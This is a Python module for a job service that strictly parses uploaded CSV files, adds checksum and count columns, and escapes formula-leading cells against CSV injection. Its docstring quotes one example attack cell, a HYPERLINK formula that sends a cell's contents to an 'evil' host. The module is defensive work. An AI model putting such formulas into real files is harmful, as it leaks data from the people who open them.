"""CSV enrichment: what the job service does to an uploaded file, and how it refuses bad input.

An upload is a UTF-8 CSV file whose first record is the header. Every data row gets three
computed columns, so a client can check that the service saw exactly the cells it sent::

    >>> list(enrich_csv(b"name,formula\\r\\nada,=1+1\\r\\n"))
    [['name', 'formula', 'row', 'filled', 'crc32'], ['ada', "'=1+1", '1', '2', '27c4999e']]

* ``row``: the 1-based number of the data row (the header is not counted);
* ``filled``: how many of the row's cells are non-empty;
* ``crc32``: CRC-32, as 8 hex digits, of the row's original cells encoded as UTF-8 and joined
  by the ASCII unit separator ``\\x1f`` (so ``["a,b"]`` and ``["a", "b"]`` differ).

**Strict parsing.** A file that is not clean CSV is refused with the line to look at, because a
job that silently drops or shifts cells is worse than a job that fails: quotes must be balanced
(``csv`` with ``strict=True``), every record must have as many fields as the header
(``line 7: expected 3 fields, got 4``), every line must be valid UTF-8, and a file with no
header at all is an ``empty CSV``. Blank lines are skipped, as ``csv.DictReader`` does.

**Formula injection.** A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula (tab and carriage return lead to the same), so a cell such as
``=HYPERLINK("http://evil/?"&A1)`` in an upload would run on the machine of whoever opens the
result. Following the OWASP guidance on CSV injection, such cells are written with a leading
single quote, which spreadsheets show as text. The price: a negative number ``-5`` comes back
as ``'-5``. The checksum is computed on the original cell, before escaping.
"""

from __future__ import annotations

import codecs
import csv
import mmap
import re
import zlib
from collections.abc import Iterable, Iterator, Sequence

from durable_jobs.errors import JobStoreError

ENRICHED_COLUMNS = ("row", "filled", "crc32")
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
"""Cell starts that a spreadsheet may evaluate (OWASP CSV injection)."""
ESCAPE_PREFIX = "'"
CELL_SEPARATOR = "\x1f"

# CSV line ends are \r\n, \n or a lone \r. Splitting the *bytes* (not decoded text) keeps
# str.splitlines from also breaking on \x1c, \x85 or \u2028, which are ordinary cell content.
_LINE_END = re.compile(rb"\r\n?|\n")


class CsvFormatError(JobStoreError, ValueError):
    """An upload that is not clean CSV; ``str()`` starts with the line to look at.

    ``line`` is the 1-based physical line of the file, or None when the problem is the whole
    file (an empty upload).
    """

    def __init__(self, line: int | None, reason: str) -> None:
        self.line = line
        self.reason = reason
        super().__init__(f"line {line}: {reason}" if line is not None else reason)


class CsvRecords:
    """The records of a CSV file given as bytes, checked strictly, with position for progress.

    Iterate it once: the header comes first, then every data row, each a list of strings of
    the header's width. Iteration raises :class:`CsvFormatError` at the first problem.

    >>> records = CsvRecords(b"a,b\\n1,2\\n")
    >>> list(records), records.fraction_read
    ([['a', 'b'], ['1', '2']], 1.0)
    """

    def __init__(self, data: bytes | mmap.mmap) -> None:
        self._data = data  # a mapped file reads like bytes, without holding them in memory
        self.bytes_read = 0
        self.width: int | None = None

    @property
    def fraction_read(self) -> float:
        """How much of the file has been parsed, from 0.0 to 1.0."""
        return self.bytes_read / len(self._data) if self._data else 1.0

    def __iter__(self) -> Iterator[list[str]]:
        reader = csv.reader(self._decoded_lines(), strict=True)
        record_start = 1
        try:
            for record in reader:
                start, record_start = record_start, reader.line_num + 1
                if not record:
                    continue  # a blank line carries no record
                if self.width is None:
                    self.width = len(record)
                elif len(record) != self.width:
                    raise CsvFormatError(start, f"expected {self.width} fields, got {len(record)}")
                yield record
        except csv.Error as error:
            reason = str(error)
            if record_start < reader.line_num:
                reason += f" (in the record that starts on line {record_start})"
            raise CsvFormatError(reader.line_num, reason) from None
        if self.width is None:
            raise CsvFormatError(None, "empty CSV: the upload has no header row")

    def _decoded_lines(self) -> Iterator[str]:
        """Physical lines, line ends kept (the csv module needs them inside quoted fields)."""
        for number, raw in enumerate(_physical_lines(self._data), start=1):
            line = raw
            if number == 1 and raw.startswith(codecs.BOM_UTF8):
                line = raw[len(codecs.BOM_UTF8) :]  # Excel's "CSV UTF-8" starts with a BOM
            try:
                text = line.decode("utf-8")
            except UnicodeDecodeError as error:
                raise CsvFormatError(
                    number,
                    f"not valid UTF-8 (byte 0x{line[error.start]:02x} at position "
                    f"{error.start + 1} of the line); save the file as UTF-8 and upload it again",
                ) from None
            self.bytes_read += len(raw)
            yield text


def escape_cell(cell: str) -> str:
    """``cell`` made safe to open in a spreadsheet: formula starts get a leading ``'``.

    >>> escape_cell("=1+1"), escape_cell("a=b"), escape_cell("")
    ("'=1+1", 'a=b', '')
    """
    return ESCAPE_PREFIX + cell if cell.startswith(FORMULA_PREFIXES) else cell


def row_checksum(cells: Sequence[str]) -> str:
    """CRC-32 of the cells (UTF-8, joined by ``\\x1f``) as 8 lowercase hex digits."""
    # surrogatepass: a str that did not come from UTF-8 (a caller's own rows) must not crash.
    joined = CELL_SEPARATOR.join(cells).encode("utf-8", "surrogatepass")
    return f"{zlib.crc32(joined):08x}"


def enrich_header(header: Sequence[str]) -> list[str]:
    """The output header: the input's, escaped, followed by :data:`ENRICHED_COLUMNS`."""
    return [escape_cell(cell) for cell in header] + list(ENRICHED_COLUMNS)


def enrich_row(row_number: int, cells: Sequence[str]) -> list[str]:
    """One output row: the cells, escaped, then ``row``, ``filled`` and ``crc32``."""
    filled = sum(1 for cell in cells if cell)
    return [escape_cell(cell) for cell in cells] + [
        str(row_number),
        str(filled),
        row_checksum(cells),
    ]


def enrich_records(records: Iterable[list[str]]) -> Iterator[list[str]]:
    """The enriched header, then one enriched row per data record."""
    rows = iter(records)
    header = next(rows, None)
    if header is None:
        raise CsvFormatError(None, "empty CSV: the upload has no header row")
    yield enrich_header(header)
    for row_number, cells in enumerate(rows, start=1):
        yield enrich_row(row_number, cells)


def enrich_csv(data: bytes) -> Iterator[list[str]]:
    """Parse ``data`` strictly and enrich it (see the module docstring); lazy."""
    return enrich_records(CsvRecords(data))


def _physical_lines(data: bytes | mmap.mmap) -> Iterator[bytes]:
    start = 0
    for match in _LINE_END.finditer(data):
        yield data[start : match.end()]
        start = match.end()
    if start < len(data):
        yield data[start:]
